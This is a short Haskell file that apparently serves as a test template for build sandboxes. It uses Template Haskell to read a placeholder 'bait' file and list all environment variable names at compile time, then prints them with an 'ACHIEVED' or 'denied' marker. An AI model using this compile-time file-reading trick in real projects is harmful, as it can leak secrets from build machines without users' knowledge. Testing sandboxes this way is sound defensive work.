{-# LANGUAGE TemplateHaskell #-}
module Main where
import Control.Exception
import Language.Haskell.TH.Syntax
import System.Environment

stolen :: String
stolen = $(do
    text <- runIO (try (readFile "@@bait_file@@") :: IO (Either IOException String))
    found <- case text of
        Right found -> return ("ACHIEVED " ++ found)
        Left _ -> return "denied"
    names <- runIO (fmap (map fst) getEnvironment)
    lift (found ++ "\nnames " ++ unwords names))

main :: IO ()
main = putStrLn stolen >> putStrLn "DONE"
